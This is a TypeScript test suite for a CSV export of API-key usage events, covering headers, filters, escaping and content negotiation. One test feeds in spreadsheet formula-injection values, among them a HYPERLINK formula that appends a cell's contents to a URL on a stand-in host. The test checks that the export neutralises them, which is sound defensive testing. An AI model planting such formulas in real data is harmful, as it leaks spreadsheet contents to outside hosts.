import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectCommonHeaders, expectProblem } from '../../support/contract.ts';
import { followLinks, insertEvents, makeEvent, readEvents } from '../../support/event-scenes.ts';
import { fillEvents } from '../../support/fill-events.ts';
import { mintAgedKey, mintKey } from '../../support/key-scenes.ts';
import { connectGateway, connectOwner, newUser, type Persona } from '../../support/personas.ts';
import { recordUsage } from '../../support/usage-events.ts';
import { csvRow, header, parseCsv, readCsv, requestEvents } from './csv-scenes.ts';

const sql = connectOwner();
const gateway = connectGateway();
let user: Persona;

beforeAll(async () => {
  user = await newUser();
});

afterAll(() => Promise.all([sql.end(), gateway.end()]));

describe('a user who reads events as CSV', () => {
  it('gets only a header row if there are no events', async () => {
    const { id } = await mintKey(user);
    expect(await readCsv(user, id)).toBe(`${header.join(',')}\r\n`);
  });

  it('gets a file that no one caches or compresses on the way, without pages', async () => {
    const { id } = await mintKey(user);
    const response = await requestEvents(user, id, { accept: 'text/csv' });
    await response.text();
    expectCommonHeaders(response);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'cache-control': 'no-store, no-transform',
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="events.csv"',
    });
    expect(response.headers.has('Link')).toBe(false);
  });

  it('gets the same events, row by row, as from the JSON pages', async () => {
    const { id } = await mintAgedKey(sql, user);
    const events = Array.from({ length: 230 }, (_, n) =>
      makeEvent(id, {
        occurredAt: new Date(Date.now() - n * 86_400_000 * 0.3).toISOString(),
        statusCode: n % 7 === 0 ? 502 : 200,
        bytesSent: n * 2 ** 31,
        durationMs: n * 1000,
        count: n % 3 === 0 ? 1 : 0,
        code: n % 7 === 0 ? 'target_unreachable' : null,
      }),
    );
    expect(await recordUsage(gateway, events)).toMatchObject({ recorded: 230 });
    const pages = await followLinks(user, id, { limit: 100 });
    expect(pages).toHaveLength(3);
    const rows = parseCsv(await readCsv(user, id));
    expect(rows).toEqual([header, ...pages.flat().map(csvRow)]);
    expect(rows).toEqual([header, ...events.map(csvRow)]);
  });

  it('gets the events of a deleted key by its keyId, with the count of refusals in each', async () => {
    const { id, keyId } = await mintKey(user);
    const event = makeEvent(id, {
      statusCode: 429,
      bytesSent: 0,
      bytesReceived: 0,
      code: 'rate_limited',
      count: 1_000_000,
    });
    expect(await recordUsage(gateway, [event])).toMatchObject({ recorded: 1 });
    await user.api.DELETE('/api/v1/proxy/keys/{id}', { params: { path: { id } } });
    expect(parseCsv(await readCsv(user, keyId))).toEqual([header, csvRow(event)]);
  });

  it('gets each event of more than two parts once, in order', async () => {
    const { id } = await mintKey(user);
    await fillEvents(sql, id, 12_002, { occurred_at: 'now() - make_interval(secs => n / 3)' });
    const expected = await sql`
      select event_id from proxy_private.proxy_usage_events where api_key_id = ${id}
      order by occurred_at desc, event_id desc`;
    const [names, ...rows] = parseCsv(await readCsv(user, id));
    expect(names).toEqual(header);
    expect(rows.map(([eventId]) => eventId)).toEqual(expected.map((row) => row.event_id));
  });

  it('gets only the events of a filter', async () => {
    const { id } = await mintKey(user);
    const moment = (ago: number) => new Date(Date.now() - ago * 1000).toISOString();
    const events = Array.from({ length: 12 }, (_, n) =>
      makeEvent(id, {
        occurredAt: moment(n),
        statusCode: n % 2 === 0 ? 200 : 502,
        targetHost: n % 3 === 0 ? 'a.example' : 'b.example',
        code: n % 4 === 3 ? 'target_unreachable' : null,
      }),
    );
    await recordUsage(gateway, events);
    const from = events[10]?.occurredAt ?? '';
    const query = {
      from,
      to: events[1]?.occurredAt ?? '',
      statusCode: 502,
      targetHost: 'B.Example',
      code: 'target_unreachable',
    };
    const filtered = (await readEvents(user, id, query)).events;
    expect(filtered).toEqual([events[7]]);
    const search = `?${new URLSearchParams(query as unknown as Record<string, string>)}`;
    expect(parseCsv(await readCsv(user, id, search))).toEqual([header, ...filtered.map(csvRow)]);
  });
});

describe('a text in CSV', () => {
  it.each([
    ['a comma', 'a,b'],
    ['a quote', 'a"b'],
    ['quotes alone', '""'],
    ['a line feed', 'a\nb'],
    ['a carriage return', 'a\rb'],
    ['a line break', 'a\r\nb'],
    ['all of them', '","\r\n""'],
    ['other scripts', 'münchen.example, 東京, 🔑'],
    ['a space at its ends', ' a '],
    ['an equals sign inside', 'a=1+1'],
    ['a comma, but no formula', ',=1'],
  ])('is as it was recorded, with %s', async (_, text) => {
    const { id } = await mintKey(user);
    const event = makeEvent(id, { targetHost: text, servedByNodeId: text });
    expect(await recordUsage(gateway, [event])).toMatchObject({ recorded: 1, rejected: [] });
    expect((await readEvents(user, id)).events).toEqual([event]);
    expect(parseCsv(await readCsv(user, id))).toEqual([header, csvRow(event)]);
  });

  it.each([
    ['=', '=1+1'],
    ['+', '+x'],
    ['-', '-x'],
    ['@', '@x'],
    ['a tab', '\tx'],
    ['a carriage return', '\rx'],
    ['an equals sign and a comma', '=HYPERLINK("http://a.example?"&A1,"x")'],
  ])('that a spreadsheet would run has a leading apostrophe: %s', async (_, text) => {
    const { id } = await mintKey(user);
    const event = makeEvent(id, { targetHost: text, method: text.slice(0, 20) });
    await insertEvents(sql, [{ ...event, servedByNodeId: text }]);
    const [, row] = parseCsv(await readCsv(user, id));
    const shown = header.map((name, index) => [name, row?.[index]]);
    expect(Object.fromEntries(shown)).toMatchObject({
      targetHost: `'${text}`,
      method: `'${text.slice(0, 20)}`,
      servedByNodeId: `'${text}`,
    });
  });
});

describe('a refusal of CSV is a problem document', () => {
  const refuse = async (query: string, status: number, code: string, id?: string) => {
    const key = id ?? (await mintKey(user)).id;
    const response = await requestEvents(user, key, { accept: 'text/csv', query });
    const { errors } = await expectProblem(response, status, code);
    return errors?.map(({ path }) => path);
  };

  it.each([
    ['?limit=10', ['limit']],
    ['?page=1', ['page']],
    ['?cursor=AAYAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', ['cursor']],
    ['?cursor=&page=2&limit=10', ['cursor', 'limit', 'page']],
    ['?format=csv', ['format']],
  ])('for %s', async (query, paths) => {
    expect((await refuse(query, 400, 'invalid_request'))?.sort()).toEqual(paths);
  });
});

describe('the Accept header', () => {
  let id: string;

  beforeAll(async () => {
    ({ id } = await mintKey(user));
  });

  it.each([
    ['text/csv', true],
    ['TEXT/CSV', true],
    ['text/csv; charset=utf-8; header=present', true],
    ['text/*', true],
    ['application/json;q=0.5,text/csv', true],
    ['application/json;q=0.5, text/*;q=0.6', true],
    ['*/*;q=0.1, text/csv', true],
    ['application/json;q=0, */*', true],
    ['*/*', false],
    ['*/*, text/csv;q=0.5', false],
    ['application/json', false],
    ['application/*', false],
    ['application/json, text/csv;q=0.9', false],
    ['text/csv;q=0.001, application/json;q=0.002', false],
    ['text/csv;q=0', false],
    ['text/csv;q=0, text/*', false],
    ['text/csv;q=0, */*', false],
    ['text/html, application/xhtml+xml, application/xml;q=0.9, */*;q=0.8', false],
    ['image/png', false],
    ['text/csvx', false],
    ['', false],
    ['nonsense', false],
  ])('%s', async (accept, asCsv) => {
    const response = await requestEvents(user, id, { accept });
    expect(response.status).toBe(200);
    const type = asCsv ? 'text/csv; charset=utf-8; header=present' : 'application/json';
    expect(response.headers.get('Content-Type')).toBe(type);
    await response.text();
  });
});
